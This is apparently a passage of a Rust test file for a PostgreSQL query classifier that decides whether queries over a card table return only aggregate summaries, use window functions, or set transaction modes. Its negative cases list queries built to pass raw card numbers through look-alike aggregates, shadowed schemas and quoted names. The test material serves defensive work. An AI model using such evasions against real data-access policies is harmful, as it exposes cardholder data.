        "EXPLAIN (ANALYZE TRUE) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 1) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE on) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 'ON') SELECT pan FROM cards",
        "EXPLAIN (ANALYZE, FORMAT JSON) SELECT pan FROM cards",
        "EXPLAIN (FORMAT JSON, ANALYZE) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE off, ANALYZE on) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE on, ANALYZE off) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 2) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE -1) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 1.0) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 0.0) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 'yes') SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 'offf') SELECT pan FROM cards",
        "EXPLAIN (ANALYZE '') SELECT pan FROM cards",
        "EXPLAIN (ANALYZE \"ON\") SELECT pan FROM cards",
        "EXPLAIN (\"ANALYZE\" off, ANALYZE) SELECT pan FROM cards",
    ];
    for sql in analyzed {
        let s = one(sql);
        assert!(!s.bounded, "{sql}");
        assert_eq!(s.lineage.query_kind, Some(K::Select), "{sql}");
        assert_eq!(s.lineage.outputs.len(), 1, "{sql}");
    }
    let s = one("EXPLAIN (ANALYZE 1) SELECT pan FROM cards WHERE id = 7");
    assert!(s.bounded);
}

#[test]
fn aggregates_only_means_every_output_column_is_a_summary() {
    let yes = [
        "SELECT count(*) FROM cards",
        "SELECT count(pan) FROM cards",
        "SELECT count(DISTINCT pan) FROM cards",
        "SELECT pg_catalog.count(*) FROM cards",
        "SELECT count(*), sum(amount), avg(amount), min(amount), max(amount) FROM orders",
        // One row's value, but an aggregate: the card-data model decides on `pan`.
        "SELECT max(pan) FROM cards",
        "SELECT min(pan) FROM cards WHERE id > 3",
        "SELECT bool_and(x), bool_or(x), every(x), bit_and(n), bit_or(n), bit_xor(n) FROM t",
        "SELECT stddev(x), stddev_pop(x), stddev_samp(x), variance(x), var_pop(x), var_samp(x) \
         FROM t",
        "SELECT corr(y, x), covar_pop(y, x), covar_samp(y, x), regr_slope(y, x), \
         regr_intercept(y, x), regr_count(y, x), regr_r2(y, x), regr_avgx(y, x), \
         regr_avgy(y, x), regr_sxx(y, x), regr_sxy(y, x), regr_syy(y, x) FROM t",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM orders",
        "SELECT percentile_disc(0.9::float8) WITHIN GROUP (ORDER BY amount) FROM orders",
        "SELECT mode() WITHIN GROUP (ORDER BY status) FROM orders",
        "SELECT sum(amount) FILTER (WHERE status = 'paid') FROM orders",
        "SELECT count(*) AS n, 'total' AS label, $1::int AS run FROM cards",
        "SELECT count(*) + 1, sum(x)::numeric(10, 2), -sum(x), sum(x) / nullif(count(*), 0) \
         FROM t",
        "SELECT CASE WHEN count(*) > 100 THEN 'many' ELSE 'few' END FROM cards",
        "SELECT CASE count(*) WHEN 0 THEN 'none' END FROM cards",
        "SELECT coalesce(sum(x), 0), greatest(min(x), 0), least(max(x), 10) FROM t",
        "SELECT count(*) > 0 AND sum(x) IS NOT NULL, count(*) IN (1, 2), \
         sum(x) BETWEEN 1 AND 5 FROM t",
        "SELECT count(*) FROM (SELECT pan FROM cards) s",
        "WITH x AS (SELECT pan FROM cards WHERE id = 1) SELECT count(*) FROM x",
        "SELECT (SELECT count(*) FROM cards)",
        "SELECT (SELECT count(*) FROM cards) - count(*) FROM orders",
        "SELECT count(*) FROM cards UNION ALL SELECT count(*) FROM orders",
        "SELECT count(*) FROM cards UNION SELECT sum(amount) FROM orders \
         EXCEPT SELECT max(n) FROM t",
        "SELECT count(*) FROM (SELECT row_number() OVER () AS r FROM cards) s",
        "SELECT count(*) FROM cards HAVING count(*) > 10",
        // The query a prepared statement, a cursor or EXPLAIN returns rows of.
        "PREPARE q AS SELECT sum(amount) FROM payments",
        "DECLARE c CURSOR FOR SELECT sum(amount) FROM payments",
        "EXPLAIN SELECT sum(amount) FROM payments",
    ];
    for sql in yes {
        assert!(one(sql).aggregates_only, "{sql}");
    }
    let no = [
        // A raw value, a group key beside the count, a constant alone.
        "SELECT pan FROM cards",
        "SELECT count(*), pan FROM cards GROUP BY pan",
        "SELECT brand, count(*) FROM cards GROUP BY brand",
        "SELECT 1",
        "SELECT 1 FROM cards GROUP BY pan",
        "SELECT count(*) + id FROM cards GROUP BY id",
        // An array of fractions returns a value per fraction; a parameter could be one.
        "SELECT percentile_disc(ARRAY[0.1, 0.9]) WITHIN GROUP (ORDER BY amount) FROM orders",
        "SELECT percentile_disc('{0,0.5,1}'::float8[]) WITHIN GROUP (ORDER BY id::text) FROM t",
        "SELECT percentile_cont($1) WITHIN GROUP (ORDER BY amount) FROM orders",
        // A row per group, and groups may be single rows.
        "SELECT count(*) FROM cards GROUP BY pan",
        "SELECT max(holder), max(created_at) FROM cards GROUP BY id",
        "SELECT sum(amount) FROM payments GROUP BY id HAVING count(*) > 0",
        "SELECT count(*) FROM cards GROUP BY brand HAVING count(*) > 10 ORDER BY 1 LIMIT 5",
        // A scalar subquery runs once per row of a query that does not aggregate itself.
        "SELECT (SELECT max(a) FROM (SELECT p.id AS a) s) FROM payments p",
        "SELECT (SELECT max(h) FROM (SELECT c.holder AS h) s) FROM cards c",
        "PREPARE q AS SELECT id FROM payments",
        "DECLARE c CURSOR FOR SELECT amount FROM payments",
        // Window functions return a value per row.
        "SELECT count(*) OVER () FROM cards",
        "SELECT count(*) OVER w FROM cards WINDOW w AS (ORDER BY id)",
        "SELECT sum(x) OVER (PARTITION BY y), count(*) FROM t GROUP BY x, y",
        "SELECT CASE WHEN count(*) > 0 THEN rank() OVER () END FROM cards",
        // Aggregates that return the rows themselves.
        "SELECT string_agg(pan, ',') FROM cards",
        "SELECT array_agg(pan) FROM cards",
        "SELECT json_agg(c) FROM cards c",
        "SELECT jsonb_agg(pan) FROM cards",
        "SELECT json_object_agg(id, pan) FROM cards",
        "SELECT jsonb_object_agg(id, pan) FROM cards",
        "SELECT json_objectagg(id : pan) FROM cards",
        "SELECT json_arrayagg(pan) FROM cards",
        "SELECT xmlagg(xmlelement(name p, pan)) FROM cards",
        "SELECT range_agg(r) FROM t",
        "SELECT range_intersect_agg(r) FROM t",
        "SELECT count(*), array_agg(pan) FROM cards",
        "SELECT any_value(pan) FROM cards",
        // Not the built-in: another schema, a quoted name, a user-defined aggregate.
        "SELECT public.count(pan) FROM cards",
        "SELECT evil.max(pan) FROM cards",
        "SELECT \"COUNT\"(*) FROM cards",
        "SELECT my_agg(pan) FROM cards",
        "SELECT mydb.pg_catalog.count(*) FROM cards",
        // Set-returning and other functions around or beside the summary.
        "SELECT generate_series(1, count(*)) FROM cards",
        "SELECT unnest(array_agg(pan)) FROM cards",
        "SELECT round(avg(x), 2) FROM t",
        "SELECT count(*), now() FROM cards",
        "SELECT count(*), current_date FROM cards",
        // A scalar subquery that is not itself aggregates only; other subqueries.
        "SELECT (SELECT pan FROM cards LIMIT 1), count(*) FROM t",
        "SELECT (SELECT count(*) FROM cards UNION ALL SELECT pan FROM cards LIMIT 1)",
        "SELECT EXISTS (SELECT count(*) FROM cards)",
        "SELECT ARRAY(SELECT count(*) FROM cards)",
        "SELECT count(*) IN (SELECT count(*) FROM cards) FROM t",
        // Set operations: every arm; VALUES never.
        "SELECT count(*) UNION SELECT id FROM cards",
        "SELECT id FROM cards UNION ALL SELECT count(*) FROM cards",
        "SELECT count(*) FROM cards UNION ALL VALUES (1)",
        "VALUES (1)",
        // `*` and whole rows, in or out of an aggregate.
        "SELECT * FROM cards",
        "TABLE cards",
        "SELECT count(c.*) FROM cards c",
        "SELECT max(c) FROM cards c",
        "SELECT count(*), c FROM cards c GROUP BY c",
        // Aggregate forms that are not plain summaries.
        "SELECT percentile_cont(0.5) FROM orders",
        "SELECT count(*) WITHIN GROUP (ORDER BY x) FROM t",
        "SELECT rank(5) WITHIN GROUP (ORDER BY x) FROM t",
        "SELECT sum(VARIADIC ARRAY[1, 2])",
        "SELECT (count(*))[1] FROM t",
        "SELECT ROW(count(*), 1) FROM t",
        "SELECT ARRAY[count(*)] FROM t",
        // Not a SELECT returning rows.
        "SELECT count(*) INTO t FROM cards",
        "INSERT INTO t SELECT count(*) FROM cards",
        "CREATE TABLE t AS SELECT count(*) FROM cards",
        "DELETE FROM cards WHERE id = 1 RETURNING count(*)",
        "COPY (SELECT count(*) FROM cards) TO STDOUT",
    ];
    for sql in no {
        // Some do not survive Postgres's analysis, but they all parse.
        let s = one(sql);
        assert!(!s.aggregates_only, "{sql}");
    }
    // Each statement of a text on its own.
    let c = classify("SELECT count(*) FROM cards; SELECT pan FROM cards").unwrap();
    let each: Vec<bool> = c.statements.iter().map(|s| s.aggregates_only).collect();
    assert_eq!(each, [true, false]);
    assert!(
        serde_json::to_value(one("SELECT count(*) FROM cards")).unwrap()["aggregates_only"]
            .as_bool()
            .unwrap()
    );
}

#[test]
fn window_functions_anywhere() {
    let yes = [
        "SELECT count(*) OVER () FROM cards",
        "SELECT row_number() OVER w FROM cards WINDOW w AS (ORDER BY id)",
        "SELECT lag(pan) OVER (ORDER BY id) FROM cards WHERE id = 1",
        "SELECT count(*) FROM (SELECT rank() OVER (ORDER BY pan) FROM cards) s",
        "SELECT id FROM cards WHERE id IN (SELECT first_value(id) OVER () FROM t)",
        "WITH x AS (SELECT sum(x) OVER (PARTITION BY y) AS s FROM t) SELECT count(*) FROM x",
        "SELECT 1 UNION ALL SELECT ntile(4) OVER () FROM t",
        "PREPARE p AS SELECT dense_rank() OVER () FROM t",
        "EXPLAIN SELECT percent_rank() OVER () FROM t",
        "CREATE TABLE t AS SELECT cume_dist() OVER () FROM cards",
        "CREATE VIEW v AS SELECT lead(pan) OVER () FROM cards",
        "DELETE FROM t WHERE id = 1 RETURNING (SELECT max(x) OVER () FROM u LIMIT 1)",
        "SELECT public.my_window(x) OVER () FROM t",
        // Folded in from analysed bodies and constant SQL strings.
        "DO $$ BEGIN PERFORM row_number() OVER () FROM cards; END $$",
        "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql AS \
         'SELECT row_number() OVER () FROM cards LIMIT 1'",
        "CREATE FUNCTION f() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN \
         RETURN (SELECT count(*) OVER () FROM cards LIMIT 1); END $$",
        "DO $$ BEGIN EXECUTE 'SELECT rank() OVER () FROM cards'; END $$",
        "SELECT query_to_xml('SELECT rank() OVER () FROM cards', true, false, '')",
    ];
    for sql in yes {
        assert!(one(sql).window_functions, "{sql}");
    }
    let no = [
        "SELECT count(*) FROM cards",
        // A WINDOW clause no call uses, and a column named like one.
        "SELECT id FROM cards WINDOW w AS (ORDER BY id)",
        "SELECT over FROM t",
        "SELECT 'count(*) OVER ()'",
        "SELECT rank(5) WITHIN GROUP (ORDER BY x) FROM t",
        "DO $$ BEGIN PERFORM count(*) FROM cards; END $$",
    ];
    for sql in no {
        assert!(!one(sql).window_functions, "{sql}");
    }
    // Not folded: each statement of a text is its own.
    let c = classify("SELECT rank() OVER () FROM t; SELECT 1").unwrap();
    let each: Vec<bool> = c.statements.iter().map(|s| s.window_functions).collect();
    assert_eq!(each, [true, false]);
}

#[test]
fn transaction_modes_are_the_parameters_they_set() {
    for (sql, settings) in [
        ("BEGIN READ WRITE", vec!["transaction_read_only"]),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            vec!["transaction_isolation", "transaction_read_only"],
        ),
        (
            "SET TRANSACTION READ WRITE",
            vec!["transaction", "transaction_read_only"],
        ),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            vec!["default_transaction_read_only", "session characteristics"],
        ),
        ("BEGIN", vec![]),
        (
            "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
            vec!["transaction snapshot"],
        ),
    ] {
        assert_eq!(one(sql).settings, settings, "{sql}");
    }
}
